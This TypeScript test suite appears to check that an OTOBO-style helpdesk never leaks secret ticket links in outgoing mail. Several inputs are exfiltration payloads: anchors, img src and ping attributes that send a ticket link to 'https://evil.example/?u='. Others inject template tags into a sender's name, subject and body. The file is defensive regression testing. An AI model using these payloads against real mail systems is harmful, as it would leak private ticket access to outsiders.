import { expect } from "chai";
import type { SentMail } from "../otobo/outbox.ts";
import { linkOf, opensSomething, inertLinkOf, secretOf } from "./links.ts";
import { followUpMail, mail, type MailParts } from "./mails.ts";
import type { ScenarioGroup, Scenario } from "./scenario.ts";
import { strayPlaces } from "./secret-places.ts";
import { mailIn, newest, opens, tag } from "./steps.ts";
import type { World } from "./world.ts";

const evil = "https://evil.example/?u=";
const htmlTag = "&lt;OTOBO_OTACustomerTicketLink&gt;";

/** Everything of a customer's mail that an auto response can repeat. */
const quoting = {
  subject: "Re: <OTOBO_CUSTOMER_SUBJECT[200]>",
  text: [
    `Your ticket "<OTOBO_TICKET_Title>": ${tag}`,
    "Dear <OTOBO_CUSTOMER_DATA_UserLastname> (<OTOBO_CUSTOMER_DATA_UserFirstname>),",
    "you wrote about <OTOBO_CUSTOMER_SUBJECT>:",
    "<OTOBO_CUSTOMER_BODY>",
    "<OTOBO_CUSTOMER_EMAIL[30]>",
    "<OTOBO_CUSTOMER_BODY[3]>",
  ].join("\n"),
};

/** The mails that left since `before`; none has a secret where an honest one has none. */
const honestMails = async (world: World, before: number): Promise<SentMail[]> => {
  const mails = (await world.allMails()).slice(before);
  for (const sent of mails) expect(await strayPlaces(sent), `${sent.subject}\n${sent.text}`).to.deep.equal([]);
  return mails;
};

const countMails = async (world: World): Promise<number> => (await world.allMails()).length;

/** Ways to make an address of one's own of a link. */
const wrappings = (link: string): string[] => [
  `${evil}${link}`,
  `"${evil} ${link}"`,
  `<${evil} ${link}>`,
  `<${evil}\n${link}>`,
  `<a href="${evil}${link}">${link}</a>`,
  `<img src="${evil} ${link}">`,
  `[Your ticket](${evil}${link})`,
];

/** A stranger's follow-up, and the inert link that the auto response to it tells him. */
const learnInertLink = async (world: World, ticketNumber: string): Promise<string> => {
  const stranger = world.freshAddress("stranger");
  await world.receive(followUpMail(ticketNumber, { from: stranger }));
  const answer = newest(await world.mailsTo(stranger));
  expect(answer && opensSomething(answer)).to.equal(false);
  return answer?.links[0] ?? "";
};

const asHtml = (body: string): MailParts => ({
  from: "",
  body: `<html><body>${body}</body></html>`,
  headers: { "Content-Type": "text/html; charset=utf-8" },
});

const strangers: Scenario[] = [
  {
    name: "an inert link that a stranger learned, wrapped into his own address and quoted to the victim, gets no secret",
    run: async (world) => {
      const victim = world.freshAddress("victim");
      const { ticketNumber } = await mailIn(world, victim);
      const learned = await learnInertLink(world, ticketNumber);
      expect(learned).to.match(/\/t\/\d+\/[0-9A-Za-z]{24}$/);
      await world.setAutoResponses(quoting);
      const body = wrappings(learned).join("\n\n");
      for (const parts of [{ body }, asHtml(body)]) {
        const before = await countMails(world);
        await world.receive(followUpMail(ticketNumber, { ...parts, from: `Jane Doe <${victim}>` }));
        const [answer] = await honestMails(world, before);
        expect(answer?.envelope.to).to.deep.equal([victim]);
        expect(answer?.text).to.contain("evil.example");
        expect(linkOf(answer)).not.to.contain(learned);
        await opens(linkOf(answer), ticketNumber);
      }
    },
  },
];

/** What an agent sends with a link of its own; `write` makes the mail of the inert link. */
const agentSends = async (
  world: World,
  write: (safe: string) => Omit<Parameters<World["send"]>[1], "to">,
): Promise<{ sent: SentMail; safe: string; ticketNumber: string }> => {
  const address = world.freshAddress("agents.customer");
  const { ticketNumber } = await mailIn(world, address);
  const safe = /https?:[^\s"<]+/.exec(await world.render(ticketNumber, tag))?.[0] ?? "";
  const before = await countMails(world);
  await world.send(ticketNumber, { to: address, ...write(safe) });
  const [sent] = await honestMails(world, before);
  if (!sent) throw new Error("There is no mail");
  return { sent, safe, ticketNumber };
};

const agents: Scenario[] = [
  {
    name: "an agent's mail that wraps an inert link into another address leaves without a secret",
    run: async (world) => {
      const anchors = (safe: string): string[] => [
        `<a href="${evil}${safe}">Ticket</a>`,
        `<img src="${evil}${safe}">`,
        `<img src="${evil} ${safe}">`,
        `<a href="${evil} ${safe}">${safe}</a>`,
        `<a href="${safe}" ping="${evil}">${safe}</a>`,
        `<iframe src="${safe}"></iframe><a href="${safe}">${safe}</a>`,
      ];
      for (const [index] of anchors("").entries()) {
        const text = (safe: string): string => `<p>Hello</p>${anchors(safe)[index] ?? ""}`;
        const { sent } = await agentSends(world, (safe) => ({ html: true, text: text(safe) }));
        expect(opensSomething(sent), text("SAFE")).to.equal(false);
      }
      for (const wrap of [`${evil}SAFE`, `"${evil} SAFE"`, `<${evil} SAFE>`, `<${evil}\nSAFE>`]) {
        const { sent } = await agentSends(world, (safe) => ({ text: `See ${wrap.replace("SAFE", safe)} soon` }));
        expect(opensSomething(sent), wrap).to.equal(false);
      }
    },
  },
  {
    name: "an image beside the link of an agent's mail learns nothing of its secret",
    run: async (world) => {
      const { sent, safe, ticketNumber } = await agentSends(world, (link) => ({
        html: true,
        text: `<p><a href="${link}">${link}</a> <img src="${evil}${link}"> <img src="${evil} ${link}"></p>`,
      }));
      expect(inertLinkOf(linkOf(sent))).to.equal(safe);
      expect(sent.html).to.contain(`src="${evil}${safe}"`);
      await opens(linkOf(sent), ticketNumber);
    },
  },
  {
    name: "the files of an agent's mail, HTML or not, have the inert link",
    run: async (world) => {
      for (const html of [false, true]) {
        const { sent, safe, ticketNumber } = await agentSends(world, (link) => ({
          html,
          text: html ? `<a href="${link}">${link}</a>` : `See ${link}`,
          attachments: [
            { filename: "page.html", contentType: "text/html", content: `<a href="${link}">${link}</a>` },
            { filename: "words.txt", contentType: "text/plain", content: `See ${link}\n` },
          ],
        }));
        expect(inertLinkOf(linkOf(sent))).to.equal(safe);
        await opens(linkOf(sent), ticketNumber);
      }
    },
  },
  {
    name: "of two new inert links in one mail none gets a secret, then or later",
    run: async (world) => {
      const address = world.freshAddress("two.new");
      const { ticketNumber } = await mailIn(world, address);
      const links: string[] = [];
      for (const text of [tag, tag]) links.push((await world.render(ticketNumber, text)).trim());
      expect(new Set(links).size).to.equal(2);
      const before = await countMails(world);
      for (const text of [links.join("\n"), ...links]) await world.send(ticketNumber, { to: address, text });
      const mails = await honestMails(world, before);
      expect(mails.map(opensSomething)).to.deep.equal([false, false, false]);
    },
  },
  {
    name: "the copy for SendmailBcc has the inert link, the customer's mail one that works",
    run: async (world) => {
      const archive = world.freshAddress("archive");
      await world.set("SendmailBcc", archive);
      const address = world.freshAddress("archived");
      const { ticketNumber, link } = await mailIn(world, address);
      const copies = await world.mailsTo(archive);
      expect(copies.map(({ links }) => links)).to.deep.equal([[inertLinkOf(link)]]);
      const mails = (await world.allMails()).filter(({ raw }) => raw.includes(ticketNumber));
      expect(mails.map(({ envelope }) => envelope.to).sort()).to.deep.equal([[archive], [address]].sort());
      await opens(link, ticketNumber);
    },
  },
];

/** A mail that has the tag wherever a sender can put it. */
export const tagged = (address: string): MailParts => ({
  from: `"${tag} ${evil}${tag}" <${address}>`,
  subject: `${tag} ${evil}${tag}`,
  body: [tag, `${evil}${tag}`, htmlTag, `<a href="${evil}${tag}">${tag}</a>`, "%3COTOBO_OTACustomerTicketLink%3E"].join(
    "\n",
  ),
});

const quotes: Scenario[] = [
  {
    name: "a link that a customer quotes in an answer goes to nobody else when an agent's mail or an auto response repeats it",
    run: async (world) => {
      const address = world.freshAddress("quoting.customer");
      const { ticketNumber, link } = await mailIn(world, address);
      await world.setAutoResponses(quoting);
      const words = `Still burning!\n\n> Your ticket is here:\n> ${link}\n> https://safe.example/?url=${encodeURIComponent(link)}`;
      const before = await countMails(world);
      await world.receive(followUpMail(ticketNumber, { from: address, body: words }));
      const colleague = world.freshAddress("colleague");
      await world.send(ticketNumber, { to: address, cc: colleague, text: `We know.\n\n${words}` });
      const html = `<p>We know.</p><blockquote><a href="${link}">${link}</a></blockquote>`;
      await world.send(ticketNumber, { to: colleague, html: true, text: html });
      const mails = await honestMails(world, before);
      expect(mails).to.have.lengthOf.at.least(3);
      for (const { raw, text, html: markup = "" } of mails)
        expect([raw.toString(), text, markup].join("\n")).not.to.contain(secretOf(link));
      for (const sent of await world.mailsTo(colleague)) expect(sent.links).to.deep.equal([inertLinkOf(link)]);
      await opens(link, ticketNumber);
    },
  },
];

const tags: Scenario[] = [
  {
    name: "the tag in a sender's text, subject, title and name stays text when an auto response repeats them",
    run: async (world) => {
      await world.setAutoResponses(quoting);
      for (const html of [false, true]) {
        const address = world.freshAddress("tagger");
        const parts = tagged(address);
        const before = await countMails(world);
        const given = html ? { ...parts, ...asHtml(parts.body ?? ""), from: parts.from } : parts;
        const { ticketNumber } = await world.receive(mail(given));
        const [answer, ...more] = await honestMails(world, before);
        expect(more).to.deep.equal([]);
        expect(answer?.text).to.contain("evil.example");
        expect(answer?.links).to.have.lengthOf(1);
        await opens(linkOf(answer), ticketNumber);
      }
    },
  },
  {
    name: "the tag in a sender's text, subject, title and name stays text when a notification repeats them",
    run: async (world) => {
      await world.addNotification(
        { en: { subject: "Re: <OTOBO_CUSTOMER_SUBJECT[200]> <OTOBO_TICKET_Title>", text: `NOTE ${quoting.text}` } },
        { onNewTicket: true },
      );
      const address = world.freshAddress("tagger");
      const before = await countMails(world);
      const { ticketNumber } = await world.receive(mail(tagged(address)));
      const mails = await honestMails(world, before);
      const notification = mails.find(({ text }) => text.includes("NOTE"));
      expect(notification?.text).to.contain("evil.example");
      expect(notification?.links).to.have.lengthOf(1);
      expect(notification?.subject).not.to.contain("/t/");
      await opens(linkOf(notification), ticketNumber);
    },
  },
  {
    name: "the tag in a sender's words stays text in an agent's template, salutation and signature",
    run: async (world) => {
      const repeated = "<OTOBO_TICKET_Title> <OTOBO_CUSTOMER_DATA_UserLastname>";
      await world.setQueueTexts({ salutation: `Dear ${repeated},`, signature: `Bye ${repeated}` });
      const address = world.freshAddress("tagger");
      const { ticketNumber } = await world.receive(mail(tagged(address)));
      const before = await countMails(world);
      await world.send(ticketNumber, { to: address, text: await world.render(ticketNumber, `${repeated}: ${tag}`) });
      const [sent] = await honestMails(world, before);
      expect(sent?.text).to.contain("evil.example");
      expect(sent?.links).to.have.lengthOf(1);
      await opens(linkOf(sent), ticketNumber);
    },
  },
];

export const securityPlaces: ScenarioGroup = {
  title: "security: the secret stands only where an honest mail has it",
  scenarios: [...strangers, ...agents, ...quotes, ...tags],
};
